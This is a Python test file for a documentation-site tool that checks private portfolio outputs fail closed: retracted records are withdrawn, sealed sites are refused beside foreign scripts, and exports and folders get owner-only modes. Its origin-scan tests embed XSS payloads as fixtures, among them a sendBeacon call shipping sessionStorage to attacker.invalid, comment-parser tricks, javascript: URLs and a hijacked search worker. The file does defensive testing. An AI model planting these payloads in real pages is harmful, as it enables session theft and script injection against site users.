"""Issue 16, private outputs fail closed: breaks 2 (retraction), 4 (same origin), 7 (export, modes).

Each test builds the canary program (every pair text a unique marker, see tests/canary.py)
the way a user would, through the command line in a subprocess, and attacks one path.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

from mentorsite.site.builder import Shard
from mentorsite.vault.sealing import open_site
from tests.canary import CanaryProgram, canary_program
from tests.programs import write_files
from tests.test_encryption import ENV, FOLDER_SECRET, REVIEW_PASSPHRASE, keys_yaml
from tests.test_encryption import encrypted_program as encrypted_canary

# Subprocesses run the package of this checkout, wherever the program folder is.
# The folder secret comes from the environment, so that the keys files are ones any version reads.
RUN_ENV = {**ENV, "PYTHONPATH": str(Path(__file__).resolve().parent.parent),
           "MENTORSITE_FOLDER_SECRET": FOLDER_SECRET}


def encrypted_program(root: Path, *arguments: Any, **options: Any) -> tuple[CanaryProgram, Path]:
    """The encrypted canary program, its keys file without the folder secret (see RUN_ENV)."""
    options.setdefault("keys", keys_yaml(secret=None))
    return encrypted_canary(root, *arguments, **options)
WITHDRAWN = ("WARNING -  mentorsite: pair cy-dee: review edition withdrawn from the reviewer site: "
             "its records have errors; it comes back when they pass")


def run(folder: Path, *arguments: str, umask: int | None = None) -> subprocess.CompletedProcess[str]:
    """`mentorsite ARGUMENTS` in ``folder``, with ``umask`` when given."""
    def set_umask() -> None:
        if umask is not None:
            os.umask(umask)

    return subprocess.run([sys.executable, "-m", "mentorsite", *arguments], cwd=folder, env=RUN_ENV,
                          capture_output=True, text=True, check=False, preexec_fn=set_umask)


def texts(folder: Path) -> str:
    """Every file under ``folder`` as text, file names included (nothing hides in a name)."""
    return "\n".join(f"{path}\n{path.read_bytes().decode('utf-8', 'replace')}"
                     for path in sorted(folder.rglob("*")) if path.is_file())


@pytest.fixture(scope="module")
def encrypted(tmp_path_factory: pytest.TempPathFactory) -> tuple[CanaryProgram, Path]:
    """The canary program, encrypted, built once; each test works on a copy of the whole folder."""
    root = tmp_path_factory.mktemp("outputs")
    program, folder = encrypted_program(root)
    result = run(folder, "build")
    assert result.returncode == 0, result.stderr
    return program, root


def copy_of(encrypted: tuple[CanaryProgram, Path], tmp_path: Path) -> tuple[CanaryProgram, Path]:
    program, root = encrypted
    shutil.copytree(root, tmp_path / "copy", symlinks=True)
    return program, tmp_path / "copy" / "program"


def shared_session(folder: Path) -> Path:
    """cy-dee's session with ``visibility: review``: what the pair now takes back."""
    return next(p for p in (folder / "content/pairs/cy-dee/sessions").glob("*.md")
                if "visibility: review" in p.read_text())


def retract(folder: Path, visibility: str) -> None:
    session = shared_session(folder)
    session.write_text(session.read_text().replace("visibility: review", f"visibility: {visibility}"))


def markers_of_session(program: CanaryProgram, folder: Path) -> list[str]:
    text = shared_session(folder).read_text()
    return [m.text for m in program.markers
            if m.pair == "cy-dee" and m.where.startswith("session.") and m.text in text]


def reviewer_texts(folder: Path) -> str:
    """What reviewers can read: the plain reviewer site and the encrypted one, opened."""
    opened = open_site(folder / "site/portfolios/review", REVIEW_PASSPHRASE)
    return texts(folder / "site-private/review") + "".join(
        f"{name}\n{data.decode('utf-8', 'replace')}" for name, data in sorted(opened.items()))


def shard_of(pair_id: str) -> str:
    return next(f"{k}/2" for k in (1, 2) if Shard(k, 2).holds(pair_id))


BUILDS: dict[str, tuple[str, ...]] = {
    "whole build": ("build",),
    "--pair of the pair": ("build", "--pair", "cy-dee"),
    "--pair of another pair": ("build", "--pair", "ana-ben"),
    "--shard holding the pair": ("build", "--shard", shard_of("cy-dee")),
    "keys rotate": ("keys", "rotate", "cy-dee"),
}


@pytest.mark.parametrize("how", BUILDS)
def test_a_record_taken_back_with_a_typo_leaves_no_review_edition_anywhere(
        how: str, encrypted: tuple[CanaryProgram, Path], tmp_path: Path) -> None:
    """Break 2: a pair takes a shared session back, with a typo in `visibility`; before, its last
    review edition (holding the session) stayed in the reviewer site and was sealed again."""
    program, folder = copy_of(encrypted, tmp_path)
    taken_back = markers_of_session(program, folder)
    assert taken_back and all(marker in reviewer_texts(folder) for marker in taken_back)
    retract(folder, "pair-only")  # the typo: an error, so the pair is not built

    result = run(folder, *BUILDS[how])

    assert result.returncode == (0 if how == "--pair of another pair" else 1)
    assert "error[bad-value] visibility: expected one of 'pair' or 'review', got 'pair-only'" in result.stderr
    shown = reviewer_texts(folder)
    assert not [m.text for m in program.markers if m.pair == "cy-dee" and m.text in shown]
    assert not (folder / "site-private/review/cy-dee").exists()
    assert "cy-dee" not in (folder / "site-private/review/index.html").read_text()
    assert WITHDRAWN in result.stderr
    # the pair's own edition is kept: only the pair reads it
    assert all(marker in texts(folder / "site-private/pairs/cy-dee") for marker in taken_back)
    # and the log names the pair and the edition, never a record's text
    said = "\n".join(line for line in result.stderr.splitlines() if "withdrawn" in line)
    assert said and not [m.text for m in program.markers if m.text in said]


def test_a_review_edition_of_a_pair_left_alone_is_withdrawn_when_its_records_changed(
        encrypted: tuple[CanaryProgram, Path], tmp_path: Path) -> None:
    """Break 2, without any error: cy-dee takes a session back properly, then only ana-ben is built
    (`--pair`); before, cy-dee's old review edition stayed in the reviewer site and its vault."""
    program, folder = copy_of(encrypted, tmp_path)
    taken_back = markers_of_session(program, folder)
    retract(folder, "pair")

    result = run(folder, "build", "--pair", "ana-ben")

    assert result.returncode == 0, result.stderr
    assert not [marker for marker in taken_back if marker in reviewer_texts(folder)]
    assert ("WARNING -  mentorsite: pair cy-dee: review edition withdrawn from the reviewer site: its records "
            "changed since it was built; a whole build (or --pair cy-dee) builds it again") in result.stderr
    again = run(folder, "build")  # a whole build brings it back, without the session
    assert again.returncode == 0, again.stderr
    assert (folder / "site-private/review/cy-dee/index.html").is_file()
    assert not [marker for marker in taken_back if marker in reviewer_texts(folder)]


def test_stamps_vouch_for_nothing_withdrawn(encrypted: tuple[CanaryProgram, Path], tmp_path: Path) -> None:
    """Break 2, stamps: once the typo is mended back to the very bytes of before, the review edition
    is built again, not taken as up to date from the stamp of its earlier build."""
    _, folder = copy_of(encrypted, tmp_path)
    session = shared_session(folder)
    before = session.read_bytes()
    stamps = folder / "site-private/.stamps"
    assert "pair-cy-dee" in {p.name for p in stamps.iterdir()}
    retract(folder, "pair-only")
    assert run(folder, "build").returncode == 1
    assert not {"pair-cy-dee", "shared-cy-dee"} & {p.name for p in stamps.iterdir()}
    session.write_bytes(before)

    result = run(folder, "build")

    assert result.returncode == 0, result.stderr
    assert "portfolio 2/2: cy-dee built" in result.stderr or "cy-dee built" in result.stderr
    assert (folder / "site-private/review/cy-dee/summary.json").is_file()
    assert "cy-dee/index.html" in (folder / "site-private/review/index.html").read_text()


def test_an_encrypted_reviewer_site_not_sealed_again_is_withdrawn(
        encrypted: tuple[CanaryProgram, Path], tmp_path: Path) -> None:
    """Break 2, sealed: the reviewers' passphrase is missing while a pair's review edition is
    withdrawn; before, the encrypted reviewer site of the last build stayed published."""
    _, folder = copy_of(encrypted, tmp_path)
    (folder.parent / "keys.yml").write_text(keys_yaml(review=None, secret=None))
    retract(folder, "pair-only")

    result = run(folder, "build", "--pair", "cy-dee")  # a whole build empties site_dir first

    assert result.returncode == 1
    assert not (folder / "site/portfolios/review").exists()
    assert ("WARNING -  mentorsite: the encrypted reviewer site is withdrawn: it could not be encrypted again, "
            "and the copy there could hold review editions taken out since") in result.stderr


EXPECTED = "expected only the theme's own scripts on the host name of the encrypted portfolios"
IN_COMMENT = "in an HTML comment (a browser may end one sooner than it seems: delete the comment)"
OVERRIDE = ('{% extends "base.html" %}\n{% block scripts %}{{ super() }}'
            '<script>navigator.sendBeacon("https://attacker.invalid/", sessionStorage.key(0))</script>'
            '{% endblock %}\n')


def scripted(folder: Path, *, yaml: str = "", theme: str = "", files: dict[str, str] | None = None) -> None:
    config = folder / "mkdocs.yml"
    text = config.read_text().replace("  name: material\n", f"  name: material\n{theme}") + yaml
    config.write_text(text)
    write_files(folder, dict(files or {}))


HANDBOOK_SCRIPTS = {
    "extra_javascript (local)": (
        {"yaml": "extra_javascript:\n  - js/widget.js\n", "files": {"content/handbook/js/widget.js": "void 0;\n"}},
        f"mkdocs.yml:14:5: error[shared-origin] extra_javascript[0]: {EXPECTED}, got 'js/widget.js'"),
    "extra_javascript (another host)": (
        {"yaml": "extra_javascript:\n  - https://attacker.invalid/widget.js\n"},
        f"mkdocs.yml:14:5: error[shared-origin] extra_javascript[0]: {EXPECTED}, "
        "got 'https://attacker.invalid/widget.js'"),
    "extra.analytics": (
        {"yaml": "extra:\n  analytics:\n    provider: google\n    property: G-TEST\n"},
        f"mkdocs.yml:15:5: error[shared-origin] extra.analytics: {EXPECTED}, got analytics (google)"),
    "a theme override": (
        {"theme": "  custom_dir: overrides\n", "files": {"overrides/main.html": OVERRIDE}},
        f"error[shared-origin] {EXPECTED}, got an inline script (navigator.sendBeacon("),
    "raw HTML in a guideline": (
        {"files": {"content/handbook/index.md": "# Home\n\n<script src=\"/\\attacker.invalid/x.js\"></script>\n"}},
        f"error[shared-origin] {EXPECTED}, got a script from another host (//attacker.invalid/x.js)"),
}


@pytest.mark.parametrize("case", HANDBOOK_SCRIPTS)
def test_sealed_portfolios_are_refused_beside_handbook_scripts_not_the_themes(case: str, tmp_path: Path) -> None:
    """Break 4: by default the sealed portfolios go into site_dir, the handbook's origin; before, the
    handbook's own scripts (extra_javascript, analytics, overrides, raw HTML) ran there unwarned."""
    program, folder = encrypted_program(tmp_path)
    settings, expected = HANDBOOK_SCRIPTS[case]
    scripted(folder, **settings)  # type: ignore[arg-type]

    result = run(folder, "build")

    assert result.returncode == 1
    assert [line for line in result.stderr.splitlines() if line.startswith("ERROR   -  ") and expected in line]
    assert ("mentorsite: the encrypted portfolios (site/portfolios) are inside site_dir, on the handbook's "
            "host name, beside") in result.stderr
    assert ("Serve them from a host name of their own (set encryption.output_dir to a folder outside site_dir, "
            "and publish that folder on its own host name), or set encryption.shared_origin: warn to publish "
            "them beside the handbook anyway. Nothing was built or encrypted") in result.stderr
    assert not (folder / "site/portfolios").exists()
    assert not [m for m in program.markers if m.text in result.stderr]


def test_the_override_script_is_named_once_with_its_page_count(tmp_path: Path) -> None:
    """Break 4: the message for a theme override's script, pinned whole (one line for every page)."""
    _, folder = encrypted_program(tmp_path)
    scripted(folder, theme="  custom_dir: overrides\n", files={"overrides/main.html": OVERRIDE})
    result = run(folder, "build")
    lines = [line for line in result.stderr.splitlines() if "[shared-origin]" in line]
    assert len(lines) == 1
    assert lines[0].startswith("ERROR   -  site/404.html:")
    assert lines[0].endswith(f"error[shared-origin] {EXPECTED}, got an inline script "
                             '(navigator.sendBeacon("https://attacker.invalid/", session...) '
                             "(and in 8 other pages)")


def test_scripts_in_disguise_are_found_in_handbook_pages(tmp_path: Path) -> None:
    """Break 4: the ways raw HTML (or an override) can run a script on the handbook's origin
    without a plain `<script src>`: SVG script href, a srcdoc frame, a base address that moves
    the theme's own scripts, an entity-spelt javascript: link; a JSON script runs nothing. A script in a comment is reported
    too (comments are read as markup, fail closed: see the comment tricks below)."""
    _, folder = encrypted_program(tmp_path)
    hostile = ('<svg><script xlink:href="https://attacker.invalid/a.js"></script></svg>\n\n'
               '<iframe srcdoc="&lt;script&gt;parent.x()&lt;/script&gt;"></iframe>\n\n'
               '<base href="https://attacker.invalid/">\n\n'
               '<a href="java&#9;script:alert(1)" title="a > b">x</a>\n\n'
               '<script type="application/json">{"quiet": true}</script>\n\n<!-- <script>no()</script> -->\n')
    scripted(folder, files={"content/handbook/index.md": f"# Home\n\n{hostile}"})

    result = run(folder, "build")

    assert result.returncode == 1
    found = sorted(line.split(f"{EXPECTED}, got ")[1] for line in result.stderr.splitlines()
                   if "site/index.html:" in line and "[shared-origin]" in line)
    assert found == ["a base address for every relative script (https://attacker.invalid/)",
                     "a frame with a page of its own (srcdoc: <script>parent.x()</script>)",
                     "a javascript: link (alert(1))",
                     "a script from another host (https://attacker.invalid/a.js)",
                     f"an inline script (no()) {IN_COMMENT}"]


def origin_findings(folder: Path, files: dict[str, str]) -> tuple[int, list[str]]:
    """Build with ``files`` written; the return code and each shared-origin finding as 'page: what'."""
    scripted(folder, files=files)
    result = run(folder, "build")
    return result.returncode, sorted(
        f"{line.split('ERROR   -  ')[1].split(':')[0]}: {line.split(f'{EXPECTED}, got ')[1]}"
        for line in result.stderr.splitlines() if "[shared-origin]" in line and f"{EXPECTED}, got " in line)


REDIRECT = '<script>window.location.replace([{},window.location.search,window.location.hash].join(""))</script>'


def test_a_copy_of_the_themes_redirect_script_with_other_strings_is_reported(tmp_path: Path) -> None:
    """Break 1 of issue 16 (attacker review): an inline script counted as the theme's when it was one of
    the theme's with any string literals, so Material's redirect script with a `javascript:` URL (or
    another host, or an escape spelling one) ran on the portfolios' origin unreported. Strings the
    template writes itself must be as written; those it fills in may not name a scheme or a host."""
    _, folder = encrypted_program(tmp_path)
    values = ['"javascript:alert(document.domain)//"', '" JavaScript:alert(1)"', '"//attacker.invalid/"',
              '"\\x6aavascript:alert(3)"', '"data:text/html,x"']
    hostile = "\n\n".join(REDIRECT.format(value) for value in values)

    code, found = origin_findings(folder, {"content/handbook/index.md": f"# Home\n\n{hostile}\n"})

    assert code == 1
    assert len(found) == len(values)
    assert all(line.startswith("site/index.html: an inline script (window.location.replace([") for line in found)


def test_comment_tricks_hide_no_script_from_the_origin_scan(tmp_path: Path) -> None:
    """Break 2 of issue 16 (attacker review): browsers end a comment at `<!-->`, `<!--->` and `--!>`, where
    the scan's comment pattern did not, so an event handler or a script after them ran unreported;
    CDATA and bogus comments (`<!x>`, `<?x>`) hid nothing either. Their inside is now read as markup."""
    _, folder = encrypted_program(tmp_path)
    hostile = ('<!--><img src=x onerror="alert(1)">-->\n\n'
               '<!-- --!><script>alert(2)</script> -->\n\n'
               '<!---><img src=x onerror="alert(3)">-->\n\n'
               '<![CDATA[ ]]><svg onload="alert(4)"></svg>\n\n'
               '<!x --><img src=x onerror="alert(5)">\n')

    code, found = origin_findings(folder, {"content/handbook/index.md": f"# Home\n\n{hostile}"})

    assert code == 1
    assert found == [f"site/index.html: an event handler attribute (onerror=alert(1)) {IN_COMMENT}",
                     f"site/index.html: an event handler attribute (onerror=alert(3)) {IN_COMMENT}",
                     "site/index.html: an event handler attribute (onerror=alert(5))",
                     "site/index.html: an event handler attribute (onload=alert(4))",
                     "site/index.html: an inline script (alert(2))"]  # Markdown ends that comment at --!>
    from mentorsite.checking.origins import (
        page_scripts,  # the same written raw in a theme override (no Markdown)
    )

    raw = "<!-- --!><script>alert(2)</script> --><!--><img src=x onerror=alert(1)>--><![CDATA[<script>x()</script>]]>"
    assert [kind for _, kind, _ in page_scripts(raw)] == ["inline", "handler", "inline"]


def test_pages_with_any_name_a_browser_runs_scripts_in_are_scanned(tmp_path: Path) -> None:
    """Break 3 of issue 16 (attacker review): only `*.html`, `*.htm`, `*.xhtml` and `*.svg` were scanned,
    case-sensitively, so a static file `EVIL.HTML`, `a.xht`, `a.shtml`, `a.xml` (or a gzipped SVG)
    served as a page ran its script on the portfolios' origin unreported."""
    import gzip

    _, folder = encrypted_program(tmp_path)
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert({})</script></svg>'
    xhtml = ('<html xmlns="http://www.w3.org/1999/xhtml"><body><html:script xmlns:html='
             '"http://www.w3.org/1999/xhtml">alert({})</html:script></body></html>')
    names = {"EVIL.HTML": "<script>alert(1)</script>", "a.xht": xhtml.format(2), "a.shtml": svg.format(3),
             "a.xml": xhtml.format(4), "b.SVG": svg.format(5), "c.Htm": svg.format(6)}
    write_files(folder / "content/handbook/extra", names)
    (folder / "content/handbook/extra/d.svgz").write_bytes(gzip.compress(svg.format(7).encode()))

    code, found = origin_findings(folder, {})

    assert code == 1
    assert {line.split(": ", 1)[0] for line in found} == {
        f"site/extra/{name}" for name in [*names, "d.svgz"]}
    assert {line.split(": ", 1)[1] for line in found} == {f"an inline script (alert({n}))" for n in range(1, 8)}


@pytest.mark.parametrize("name", ["portfolios/evil.html", "portfolios/about.md", "portfolios/pairs/x.html"])
def test_a_handbook_file_inside_the_sealed_folder_is_refused(name: str, tmp_path: Path) -> None:
    """Break 4 of issue 16 (attacker review): the scan skipped the whole sealed folder (site/portfolios),
    so a handbook file written there (`portfolios/evil.html` in docs_dir, or a page that lands in
    `site/portfolios/about/`) ran its script on the portfolios' origin unreported. Such a file is now
    refused at its path, and the scan leaves out only the folders mentorsite writes (pairs/, review/)."""
    _, folder = encrypted_program(tmp_path)
    write_files(folder / "content/handbook", {name: "<script>alert(1)</script>\n"})

    result = run(folder, "build")

    assert result.returncode == 1
    source = (folder / "content/handbook" / name).resolve()
    assert f"{source}:1:1: error[shared-origin] expected no handbook file in encryption.output_dir" \
           in result.stderr
    assert not (folder / "site/portfolios/review").exists()


def test_the_scan_leaves_out_only_the_folders_mentorsite_writes_in_the_sealed_folder(tmp_path: Path) -> None:
    """Break 4 of issue 16 (attacker review), the scan itself: `check_shared_origin` left out the whole
    sealed folder, so a page in site/portfolios/ beside the sealed sites (written there by another
    plugin, or left from elsewhere) ran unreported; now only pairs/ and review/ are left out."""
    from mkdocs.config import load_config
    from mkdocs.exceptions import PluginError

    from mentorsite.site.privacy import check_shared_origin

    _, folder = encrypted_program(tmp_path)
    config = load_config(str(folder / "mkdocs.yml"))
    site = Path(config.site_dir)
    write_files(site, {"index.html": "<p>home</p>", "portfolios/about/index.html": "<script>alert(1)</script>",
                       "portfolios/pairs/a/index.html": "<script>sealed()</script>",
                       "portfolios/review/index.html": "<script>sealed()</script>"})

    with pytest.raises(PluginError):
        check_shared_origin(config, site / "portfolios", "refuse")
    found = check_shared_origin(config, site / "portfolios", "warn")

    assert [(problem.path, problem.message.split(", got ")[1]) for problem in found] == [
        ("site/portfolios/about/index.html", "an inline script (alert(1))")]


def test_a_second_theme_configuration_naming_another_search_worker_is_reported(tmp_path: Path) -> None:
    """Break 5 of issue 16 (attacker review): a guideline's own `<script id="__config" type="application/json">`
    comes before the theme's, so Material read its `search` and ran `../../gadget.js` as its search
    worker, on the portfolios' origin. A second element with a theme id (`__...`), and settings whose
    search worker is not the theme's file, are reported."""
    _, folder = encrypted_program(tmp_path)
    hostile = ('<script id="__config" type="application/json">{"base": ".", "features": [], '
               '"search": "../../gadget.js"}</script>\n')

    code, found = origin_findings(folder, {"content/handbook/index.md": f"# Home\n\n{hostile}",
                                           "content/handbook/gadget.js": "alert(1)\n",
                                           "content/handbook/other.md": '# Other\n\n<div id="__drawer"></div>\n'})

    assert code == 1
    assert found == ["site/index.html: a second element with the theme's id '__config' (the first one wins)",
                     "site/index.html: theme settings (id '__config') with a search worker not the theme's "
                     "(../../gadget.js)",
                     "site/other/index.html: a second element with the theme's id '__drawer' (the first one wins)"]


def test_shared_origin_warn_publishes_with_warnings_and_pair_builds_are_checked_too(tmp_path: Path) -> None:
    """Break 4: the refusal is the default for every build that seals (`--pair` too); the explicit
    `encryption.shared_origin: warn` turns it into a warning."""
    _, folder = encrypted_program(tmp_path)
    assert run(folder, "build").returncode == 0
    scripted(folder, yaml="extra_javascript:\n  - https://attacker.invalid/widget.js\n")
    pair_build = run(folder, "build", "--pair", "ana-ben")
    assert pair_build.returncode == 1
    assert "error[shared-origin] extra_javascript[0]" in pair_build.stderr
    config = folder / "mkdocs.yml"
    config.write_text(config.read_text().replace("keys_file: ../keys.yml\n",
                                                 "keys_file: ../keys.yml\n        shared_origin: warn\n"))

    result = run(folder, "build")

    assert result.returncode == 0, result.stderr
    assert f"WARNING -  mkdocs.yml:15:5: warning[shared-origin] extra_javascript[0]: {EXPECTED}, " \
           "got 'https://attacker.invalid/widget.js'" in result.stderr
    assert ("WARNING -  mentorsite: the encrypted portfolios share the handbook's host name with 1 script not "
            "the theme's own (encryption.shared_origin: warn)") in result.stderr
    assert (folder / "site/portfolios/review/index.html").is_file()


def test_portfolios_on_their_own_origin_are_built_beside_any_handbook(tmp_path: Path) -> None:
    """Break 4, the supported way: `encryption.output_dir` outside site_dir, served from its own host
    name: no refusal beside any script, and a folder a server can read (each sealed site was 0700)."""
    _, folder = encrypted_program(tmp_path, options="encryption:\n  enabled: true\n  keys_file: ../keys.yml\n"
                                                    "  output_dir: ../portfolios-host\n")
    scripted(folder, yaml="extra_javascript:\n  - https://attacker.invalid/widget.js\n")

    result = run(folder, "build", "--strict", umask=0o022)

    assert result.returncode == 0, result.stderr
    assert "shared-origin" not in result.stderr
    sealed = tmp_path / "portfolios-host"
    assert (sealed / "review/index.html").is_file()
    assert not (folder / "site/portfolios").exists()
    # a folder to upload to its own host: readable by the server, like the handbook (each site was 0700)
    assert {stat.S_IMODE(p.stat().st_mode) for p in [sealed, *sealed.rglob("*")] if p.is_dir()} == {0o755}


def git(folder: Path, *arguments: str) -> None:
    subprocess.run(["git", *arguments], cwd=folder, check=True, capture_output=True,
                   env={**ENV, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null"})


def test_export_goes_into_the_ignored_private_folder_and_warns_where_git_would_track_it(tmp_path: Path) -> None:
    """Break 7: `export` wrote `<pair>-pair.zip` into the program folder, which git tracks (one
    `git add -A` commits a private portfolio), readable by every user of the machine."""
    folder = write_files(tmp_path / "program", canary_program().files)
    write_files(folder, {".gitignore": "site/\nsite-private/\n.cache/\n"})
    git(folder, "init", "--quiet")

    default = run(folder, "export", "cy-dee", umask=0o022)
    chosen = run(folder, "export", "cy-dee", "-o", "cy-dee.zip", umask=0o022)

    assert default.returncode == 0, default.stderr
    assert default.stdout == "Wrote site-private/exports/cy-dee-pair.zip: the pair edition of cy-dee, " \
        f"{default.stdout.split(', ')[1].split()[0]} files.\n"
    assert default.stderr == ""
    archive = folder / "site-private/exports/cy-dee-pair.zip"
    assert stat.S_IMODE(archive.stat().st_mode) == 0o600
    assert stat.S_IMODE(archive.parent.stat().st_mode) == 0o700
    assert zipfile.ZipFile(archive).namelist()
    assert chosen.returncode == 0, chosen.stderr
    assert chosen.stderr == ("Warning: expected the export where git ignores it, got cy-dee.zip, which git "
                             "would track (one 'git add' commits a private portfolio): ignore it in .gitignore, "
                             "or write it elsewhere with -o\n")
    assert stat.S_IMODE((folder / "cy-dee.zip").stat().st_mode) == 0o600
    assert not list(folder.glob("*-pair.zip"))


def loose_entries(folder: Path) -> list[str]:
    """Entries under ``folder`` (itself included) that others could read: folders not 0700, files
    not 0600, but the theme's own files, shared by hard links with the sealed output (0644)."""
    loose = []
    for path in [folder, *sorted(folder.rglob("*"))]:
        mode = stat.S_IMODE(path.lstat().st_mode)
        theme_file = path.is_file() and "assets" in path.relative_to(folder).parts and mode == 0o644
        if (path.is_dir() and mode != 0o700) or (path.is_file() and mode != 0o600 and not theme_file):
            loose.append(f"{oct(mode)} {path.relative_to(folder.parent)}")
    return loose


def test_every_private_output_is_its_owners_only_whatever_the_umask(tmp_path: Path) -> None:
    """Break 7: the reviewer index and its search index were 0644, portfolio folders 0700 only by
    accident; the record cache's folder was 0755. Built with umask 022, every file is walked."""
    program, folder = encrypted_program(tmp_path)

    result = run(folder, "build", umask=0o022)

    assert result.returncode == 0, result.stderr
    private = folder / "site-private"
    assert loose_entries(private) == []
    assert loose_entries(folder / ".cache/mentorsite") == []
    for name in ("review/index.html", "review/search/search_index.json", "report/index.html", ".stamps"):
        assert (private / name).exists(), name
    theme_files = [p for p in private.rglob("*") if p.is_file() and stat.S_IMODE(p.stat().st_mode) == 0o644]
    assert theme_files and all(p.stat().st_nlink > 1 for p in theme_files)
    assert not [m for m in program.markers if any(m.text.encode() in p.read_bytes() for p in theme_files)]
    # the sealed output is for upload: it keeps the modes of the folders it goes into
    sealed = folder / "site/portfolios"
    assert {stat.S_IMODE(p.stat().st_mode) for p in [sealed, *sealed.rglob("*")] if p.is_dir()} == {0o755}
    assert {stat.S_IMODE(p.stat().st_mode) for p in sealed.rglob("*") if p.is_file()} == {0o644}


def test_a_private_folder_left_open_is_tightened(encrypted: tuple[CanaryProgram, Path], tmp_path: Path) -> None:
    """Break 7: folders already there with looser modes (a copy, a merge of shards) are tightened."""
    _, folder = copy_of(encrypted, tmp_path)
    private = folder / "site-private"
    for path in [private, *private.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    (folder / ".cache/mentorsite").chmod(0o755)

    result = run(folder, "build", umask=0o022)

    assert result.returncode == 0, result.stderr
    assert loose_entries(private) == []
    assert loose_entries(folder / ".cache/mentorsite") == []


def test_a_preview_build_is_its_owners_only(tmp_path: Path) -> None:
    """Break 7: the preview's (and export's) scratch site was written with the user's umask."""
    folder = write_files(tmp_path / "program", canary_program().files)
    target = tmp_path / "preview" / "site"
    probe = ("import os, sys; from pathlib import Path; os.umask(0o022); "
             "from mentorsite.site.preview import build_pair_edition; "
             f"_, problems = build_pair_edition(Path('mkdocs.yml'), 'cy-dee', 'pair', Path({str(target)!r}), "
             "policy=False); sys.exit(1 if problems else 0)")
    result = subprocess.run([sys.executable, "-c", probe], cwd=folder, env=RUN_ENV, capture_output=True, text=True,
                            check=False)
    assert result.returncode == 0, result.stderr
    assert (target / "index.html").is_file()
    assert loose_entries(target) == []
